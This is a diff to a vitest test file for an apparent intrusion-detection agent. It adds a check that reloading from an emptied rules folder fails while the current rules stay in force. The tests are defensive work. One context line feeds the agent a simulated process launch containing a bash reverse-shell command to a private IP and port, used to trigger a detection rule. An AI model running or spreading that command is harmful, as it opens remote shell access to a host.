@@ -3,7 +3,7 @@
  * in-memory output. Covers what the live test cannot force on demand: the events-lost alert, a
  * reload that fails validation, and a source that cannot start.
  */
-import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -162,6 +162,13 @@ describe('Agent', () => {
       source.deliver(launch(301, 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 #after-good-reload'));
       expect(sink.docs.filter((d) => (d.rule as { id: string }).id === SEED_RULE)).toHaveLength(1);
       expect(agent.summary().reloads).toEqual({ ok: 1, failed: 1 });
+
+      // An emptied folder is refused like a broken one: the running rules stay.
+      for (const file of readdirSync(join(dir, 'rules')).filter((f) => f.endsWith('.toml'))) rmSync(join(dir, 'rules', file));
+      const running = agent.summary().rules;
+      expect(await agent.reload()).toBe(false);
+      expect(agent.summary().rules).toEqual(running);
+      expect(agent.summary().reloads).toEqual({ ok: 1, failed: 2 });
     } finally {
       cpSync(join(ROOT, 'rules'), join(dir, 'rules'), { recursive: true });
       await agent.stop();
